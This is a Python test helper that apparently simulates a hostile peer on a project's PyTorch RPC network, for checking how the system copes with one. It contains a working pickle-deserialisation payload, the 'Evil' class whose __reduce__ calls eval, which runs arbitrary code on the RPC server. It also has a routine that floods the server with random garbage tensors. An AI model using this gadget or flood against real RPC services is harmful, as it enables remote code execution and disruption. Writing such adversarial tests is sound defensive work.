"""A hostile machine in the trusted network: ``python -m tests.communication.rpc_hostile HOST PORT``.

It joins the rendezvous like any silo's endpoint, under a name of its choice, and does what RPC lets anybody do. Orders
come as JSON lines on stdin, each answered by a line: {"join": name} makes a process that joins and obeys from then on;
{"run": source} runs Python at the server's endpoint while it unpickles an argument, and gives what the source leaves
in ``result``; {"flood": count} sends garbage on both lanes. When what it attacks ends, so does the process that joined,
and another may be made.
"""

from __future__ import annotations

import json
import os
import random
import sys
from typing import Any

from octopus_desktop.communication import torch_rpc_endpoint
from octopus_desktop.communication.torch_rpc_endpoint import Endpoint, deliver
from octopus_desktop.communication.torch_rpc_plan import SERVER, Plan

_RUN = "(lambda names: (exec({source!r}, names), names.get('result'))[1])({{}})"


class Evil:
    """Pickled, it is a call of ``eval``."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, (_RUN.format(source=self.source),)


class Nobody:
    """In the place of the relay to an end."""

    def __getattr__(self, name: str) -> Any:
        return lambda *_: None


def main(host: str, port: int) -> None:
    torch_rpc_endpoint._import_torch()
    for line in iter(_order, b""):
        if pid := os.fork():
            _, status = os.waitpid(pid, 0)
            if os.waitstatus_to_exitcode(status) != 0:
                _say("failed: it ended with what it attacked")
        else:
            attack(host, port, json.loads(line)["join"])


def attack(host: str, port: int, name: str) -> None:
    import torch
    from torch.distributed import rpc

    plan = Plan(name=name, host=host, port=port, address=host, interface="lo", networks=("127.0.0.0/8",))
    torch_rpc_endpoint._endpoint = endpoint = Endpoint(Nobody(), plan)  # type: ignore[arg-type]
    endpoint.join()
    _say("joined")
    for line in iter(_order, b""):
        order = json.loads(line)
        if "run" in order:
            try:
                answer = rpc.rpc_sync(SERVER, repr, args=(Evil(order["run"]),), timeout=30)
            except Exception:
                os._exit(3)  # as it does when it notices by itself; either way one answer comes
        else:
            dice = random.Random(3)
            for i in range(order["flood"]):
                size = dice.choice((1, 44, 300, 70_000))
                garbage = torch.frombuffer(bytearray(dice.randbytes(size)), dtype=torch.uint8)
                rpc.rpc_sync(SERVER, deliver, args=(endpoint._own_name, i % 2, [[size]], [garbage]), timeout=30)
            answer = "flooded"
        _say(answer)
    os._exit(0)


def _order() -> bytes:
    """A line; nothing is read ahead, for the next one may be another process's."""
    line = b""
    while not line.endswith(b"\n") and (sign := os.read(0, 1)):
        line += sign
    return line


def _say(what: str) -> None:
    print(json.dumps(what), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
